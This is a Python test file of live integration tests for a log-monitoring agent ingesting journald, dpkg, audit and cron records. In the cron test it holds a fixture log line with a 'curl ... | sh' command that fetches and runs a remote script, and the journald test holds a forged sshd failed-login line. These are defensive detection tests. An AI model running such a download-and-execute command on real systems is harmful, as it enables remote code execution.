"""Live, per source, through the real `keibi run`: each record a real producer writes is
in `keibi search --json` (latency printed; about 0.3-0.9 s here, the issue asks 2 s).

- journald: a private systemd-journald (tests/sources/test_journald_live.py starts it in
  a mount namespace of its own) gets a record from `logger` and one from
  `systemd-cat`; the agent reads that journal directory (`--follow journald:DIR`).
- dpkg: a tiny package the test builds with `dpkg-deb --build` is installed with
  `dpkg -i` and removed with `dpkg -r`; the agent follows the real /var/log/dpkg.log.
- audit: the agent reads the kernel's audit multicast group (`--follow audit-netlink`);
  the test adds an execve rule with a key of its own, runs a command, and removes the
  rule (restoring the enabled flag).
- cron: cron lines in Debian's syslog format and RHEL's /var/log/cron format appended to
  tailed files.
"""

from __future__ import annotations

import os
import secrets
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from keibi.sources.audit_netlink import audit_status, execve_rule, temporary_rule
from tests.live.agent import RunningAgent, keibi, wait_running, wait_search
from tests.live.audit import assert_audit_as_found
from tests.live.packages import build_deb, dpkg
from tests.sources.test_journald_live import Journald

pytestmark = pytest.mark.slow

NOBODY = 65534


def test_journald_records_through_the_agent(tmp_path: Path) -> None:
    journald = Journald(tmp_path)
    data = tmp_path / "data"
    agent = RunningAgent(data, [f"journald:{journald.dir}"])
    try:
        st = wait_running(agent)
        (src,) = st["agent"]["sources"]
        assert (src["type"], src["path"], src["active"]) == ("journald", str(journald.dir),
                                                            True)
        marker = "keibi-marker-" + secrets.token_hex(4)
        sent = time.monotonic()
        journald.log(f"{marker} via syslog")
        journald.run("systemd-cat", "-t", "keibi-test", stdin=f"{marker} via stdout\n".encode())
        journald.run("logger", "-t", "sshd", f"Failed password for root from 203.0.113.9 port "
                     f"22 ssh2 {marker}", uid=NOBODY)
        got, elapsed = wait_search(data, f"message~{marker}", pred=lambda e: len(e) >= 3,
                                   since=sent)
        print(f"\nwritten -> searchable: {elapsed:.3f} s")  # reported, not asserted
        by_msg = {e["message"]: e for e in got}
        ev = by_msg[f"{marker} via syslog"]
        # a journal record is parsed by what wrote it: a plain program's line is syslog's
        assert ev["event"]["dataset"] == "keibi.syslog" and ev["event"]["action"] == "log-line"
        assert ev["log"]["file"]["path"] == str(journald.dir) and ev["journald"]["cursor"]
        assert ev["process"]["name"] == "keibi-test" and ev["journald"]["transport"] == "syslog"
        assert by_msg[f"{marker} via stdout"]["journald"]["transport"] == "stdout"
        forged = next(e for m, e in by_msg.items() if m.startswith("Failed password"))
        assert forged["event"]["action"] == "log-forgery"  # sshd's name, nobody's uid
        assert forged["user"]["id"] == str(NOBODY) and "source" not in forged
    finally:
        agent.stop()
        journald.stop()


def _deb(tmp: Path, name: str) -> Path:
    return build_deb(tmp, name, {f"/usr/share/doc/{name}/README": b"keibi test package\n"},
                     "empty package made by a keibi test")


def test_dpkg_install_and_remove_through_the_agent(tmp_path: Path) -> None:
    assert os.geteuid() == 0, "dpkg -i needs root"
    name = "keibi-test-" + secrets.token_hex(4)
    deb = _deb(tmp_path, name)
    data = tmp_path / "data"
    agent = RunningAgent(data, ["/var/log/dpkg.log:dpkg"])
    installed = False
    try:
        wait_running(agent)
        sent = time.monotonic()
        dpkg("-i", str(deb))
        installed = True
        got, elapsed = wait_search(data, f"package.name={name}",
                                   pred=lambda e: any(x["event"]["action"] ==
                                                      "package-installed" for x in e),
                                   since=sent)
        print(f"\ndpkg -i -> package-installed in search after {elapsed:.2f}s")
        ev = next(x for x in got if x["event"]["action"] == "package-installed")
        assert ev["package"] == {"name": name, "version": "1.0-1", "architecture": "all"}
        assert ev["event"]["dataset"] == "keibi.dpkg"
        assert ev["log"]["file"]["path"] == "/var/log/dpkg.log"
        sent = time.monotonic()
        dpkg("-r", name)
        installed = False
        _, elapsed = wait_search(data, f"package.name={name}", "event.action=package-removed",
                                 since=sent)
        print(f"\nwritten -> searchable: {elapsed:.3f} s")  # reported, not asserted
    finally:
        agent.stop()
        if installed:
            subprocess.run(["dpkg", "-P", name], capture_output=True, check=False)
    listed = subprocess.run(["dpkg-query", "-W", name], capture_output=True, check=False)
    assert listed.returncode != 0, "the test package was left installed"


def test_audit_netlink_execve_through_the_agent(tmp_path: Path) -> None:
    assert os.geteuid() == 0, "needs root (CAP_AUDIT_READ and CAP_AUDIT_CONTROL)"
    token = secrets.token_hex(6)
    marker = f"keibi-marker-{token}"
    key = f"keibi-test-{token}"
    before = audit_status()
    data = tmp_path / "data"
    agent = RunningAgent(data, ["audit-netlink"])
    try:
        st = wait_running(agent)
        (src,) = st["agent"]["sources"]
        assert (src["kind"], src["active"]) == ("audit-netlink", True), src
        with temporary_rule(execve_rule(key)):
            sent = time.monotonic()
            subprocess.run(["/bin/true", marker], check=True)
            # (the `keibi search` runs that look for it are audited too: they name it)
            got, elapsed = wait_search(
                data, "event.action=process-started", f"process.command_line~{marker}",
                pred=lambda e: any(x["process"]["args"][0] == "/bin/true" for x in e),
                since=sent)
        print(f"\nwritten -> searchable: {elapsed:.3f} s")  # reported, not asserted
        print(f"\nexecve -> process-started in search after {elapsed:.2f}s")
        (ev,) = [x for x in got if x["process"]["args"][0] == "/bin/true"]
        assert ev["process"]["args"] == ["/bin/true", marker]
        assert ev["process"]["executable"].endswith("/true")
        assert ev["event"]["dataset"] == "keibi.audit"
        assert ev["auditd"]["key"] == key
        assert ev["user"]["id"] == "0"
    finally:
        agent.stop()
    assert_audit_as_found(before, key)


def test_cron_lines_through_the_agent(tmp_path: Path) -> None:
    syslog = tmp_path / "syslog"
    cron = tmp_path / "cron"
    syslog.touch()
    cron.touch()
    data = tmp_path / "data"
    agent = RunningAgent(data, [f"{syslog}:syslog", f"{cron}:cron"])
    try:
        wait_running(agent)
        tag = secrets.token_hex(4)
        now = datetime.now(UTC)
        stamp = f"{now:%b} {now.day:>2} {now:%H:%M:%S}"
        sent = time.monotonic()
        with syslog.open("a") as fh:  # Debian: cron logs to syslog
            fh.write(f"{now:%Y-%m-%dT%H:%M:%S.%f}+00:00 web01 CRON[4400]: (alice) CMD "
                     f"(curl -s http://198.51.100.66/{tag}.sh | sh)\n")
        with cron.open("a") as fh:  # RHEL: cronie's /var/log/cron, classic time stamps
            fh.write(f"{stamp} rhel9 CROND[5511]: (bob) CMD (/usr/local/bin/{tag} --quiet)\n")
        got, elapsed = wait_search(data, "event.action=cron-command",
                                   f"process.command_line~{tag}", pred=lambda e: len(e) >= 2,
                                   since=sent)
        print(f"\nwritten -> searchable: {elapsed:.3f} s")  # reported, not asserted
    finally:
        agent.stop()
    users = {e["user"]["name"]: e for e in got}
    assert set(users) == {"alice", "bob"}
    assert users["alice"]["process"]["command_line"] == (
        f"curl -s http://198.51.100.66/{tag}.sh | sh")
    assert users["bob"]["process"]["command_line"] == f"/usr/local/bin/{tag} --quiet"
    assert {e["event"]["dataset"] for e in got} == {"keibi.cron"}
    assert {e["log"]["file"]["path"] for e in got} == {str(syslog), str(cron)}
    # `keibi search` finds them by user as well
    assert keibi("search", "user.name=alice", "--json", "--data-dir", str(data)).stdout

